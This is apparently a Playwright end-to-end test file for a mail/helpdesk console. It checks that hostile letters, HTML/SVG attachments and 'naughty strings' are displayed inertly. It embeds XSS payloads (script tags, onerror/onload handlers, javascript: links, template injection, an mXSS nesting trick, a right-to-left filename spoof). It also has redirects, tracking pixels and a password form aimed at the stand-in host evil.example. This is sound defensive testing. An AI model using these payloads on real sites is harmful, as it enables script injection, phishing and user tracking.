// What strangers send is shown in the console and never runs there: hostile letters, naughty strings, files with scripts.
import { readFileSync, existsSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import type { Browser, Page } from 'playwright-core';
import { type MailOffice, openMailOffice } from '../peers/mail-office.js';
import { openBrowser, type Window } from './browser.js';
import { chatWord, openDesk } from './desk.js';

const ATTACK = 'globalThis.__xss=1;alert(1)';
const LETTER = `<html><head><script>${ATTACK}</script><meta http-equiv="refresh" content="0;url=http://evil.example/m"><base href="http://evil.example/">
<style>@import url(http://evil.example/s.css);body{background:url(http://evil.example/b.png)}</style><link rel="stylesheet" href="http://evil.example/l.css"></head>
<body onload="${ATTACK}"><p>Прошу принять документы</p><img src="x" onerror="${ATTACK}"><img src="http://evil.example/pixel.gif"><svg onload="${ATTACK}"></svg>
<a href="javascript:${ATTACK}">ссылка</a><iframe src="javascript:parent.${ATTACK}"></iframe><iframe srcdoc="<script>parent.${ATTACK}</script>"></iframe>
<object data="http://evil.example/o"></object><embed src="http://evil.example/e"><video src="http://evil.example/v" autoplay></video>
<form action="http://evil.example/f"><input name="password"><button>Войти</button></form><math><mtext><mglyph><style><img src=x onerror="${ATTACK}"></style></mglyph></mtext></math>
<div style="position:fixed;inset:0;background:url('http://evil.example/d.png')">закрыто</div></body></html>`;
const PAGE_FILE = Buffer.from(`<!doctype html><script>opener.${ATTACK}</script>`);
const STRINGS = path.join(process.env.TEST_DATA ?? '', 'text/naughty-strings.json');
const WORST = [
  '<script>globalThis.__xss=1</script>',
  '"><img src=x onerror=globalThis.__xss=1>',
  '{{constructor.constructor("__xss=1")()}}',
  '‮gnp.exe',
  'Ω≈ç√∫˜µ≤≥÷',
];

let browser: Browser;
let office: MailOffice;
let desk: Window;
let page: Page;

beforeAll(async () => {
  browser = await openBrowser();
  office = await openMailOffice({ config: { automatic: { acknowledge: false } } });
  await office.world.services.accounts.put(
    { origin: 'screen', intakeFrom: new Date(0), channel: 'chat', name: 'site', settings: {} },
    { kind: 'system', id: null },
  );
  await office.world.services.links.refresh();
  desk = await openDesk(browser, office.world.url, 'pavel');
  page = desk.page;
}, 60_000);
afterAll(async () => {
  await browser?.close();
  await office?.stop();
});

/** Nothing ran, nothing asked, nothing left this machine. */
async function nothingRan(): Promise<void> {
  const ran = await Promise.all(page.frames().map((frame) => frame.evaluate(() => (globalThis as any).__xss).catch(() => undefined)));
  expect({ ran: ran.filter(Boolean), dialogs: desk.dialogs, outside: desk.outside, at: new URL(page.url()).origin }).toEqual({
    ran: [],
    dialogs: [],
    outside: [],
    at: new URL(office.world.url).origin,
  });
}
const open = async (ticketId: string): Promise<void> => {
  await page.goto(`${office.world.url}/inbox/${ticketId}?view=all`);
  await page.getByTestId('message').first().waitFor();
};

describe('hostile content', () => {
  it('a letter full of scripts, forms and spying pictures is shown as a letter, and none of it lives', async () => {
    office.mail.person('evil@mail.example', '<img src=x onerror=globalThis.__xss=1>').send({
      subject: '<script>globalThis.__xss=1</script>Документы',
      text: 'Прошу принять документы',
      html: LETTER,
      attachments: [
        { name: 'анкета.html', mime: 'text/html', bytes: PAGE_FILE },
        { name: 'схема.svg', mime: 'image/svg+xml', bytes: Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" onload="${ATTACK}"/>`) },
      ],
    });
    const ticket = await office.pavel.ticket((one) => one.channel === 'email');
    await open(ticket.id);
    await page.getByTestId('message').getByRole('button', { name: 'Показать как письмо' }).click();
    const letter = page.frameLocator('[data-testid=message] iframe');
    await letter.getByText('Прошу принять документы').waitFor();
    expect(await letter.locator('script, form, input, iframe, object, embed, meta[http-equiv=refresh]').count()).toBe(0);
    const link = letter.getByText('ссылка');
    if (await link.count()) expect(await link.getAttribute('href')).toBeNull();
    await nothingRan();
  });

  it('files are only ever downloaded, whatever they call themselves', async () => {
    for (const name of ['анкета.html', 'схема.svg']) {
      const card = page.getByTestId('message').getByRole('link', { name: new RegExp(name) });
      const [file] = await Promise.all([page.waitForEvent('download'), card.click()]);
      expect(file.suggestedFilename()).toBe(name);
      const answer = await page.request.get(new URL((await card.getAttribute('href'))!, page.url()).href);
      expect(answer.headers()).toMatchObject({ 'x-content-type-options': 'nosniff' });
      expect(answer.headers()['content-disposition']).toMatch(/^attachment/);
      // typed into the address line it is not a page either
      const other = await desk.context.newPage();
      const [again] = await Promise.all([
        other.waitForEvent('download'),
        other.goto(new URL((await card.getAttribute('href'))!, page.url()).href).catch(() => undefined),
      ]);
      expect(again.suggestedFilename()).toBe(name);
      await other.close();
    }
    await nothingRan();
  });

  it('naughty strings stand on the screen as they were written', async () => {
    const all: string[] = existsSync(STRINGS) ? JSON.parse(readFileSync(STRINGS, 'utf8')) : [];
    const hostile = [...WORST, ...all.filter((text) => /[<{$'"`]|script|\p{Cc}/iu.test(text))].filter((text) => text.trim());
    // many in one message, each on its line: the message is the same text
    const pages = chunks(
      hostile.map((text) => text.replaceAll('\n', ' ')),
      3500,
    );
    for (const text of pages) {
      const { ticketId } = await chatWord(office.world.url, text);
      await open(ticketId);
      const stored = (await office.messages(ticketId))[0]!.text;
      const shown = await page
        .locator('[data-testid=message] .words')
        .first()
        .evaluate((one: any) => one.textContent);
      expect(shown).toBe(stored);
    }
    console.info(`hostile strings shown: ${hostile.length} in ${pages.length} messages`);
    await nothingRan();
    expect(desk.errors.filter((line) => !/Content Security Policy|Refused|sandbox/i.test(line))).toEqual([]);
  }, 60_000);
});

function chunks(lines: string[], size: number): string[] {
  const pages = [''];
  for (const line of lines) {
    if (pages.at(-1)!.length + line.length > size) pages.push('');
    pages[pages.length - 1] += `${line.slice(0, size)}\n`;
  }
  return pages;
}
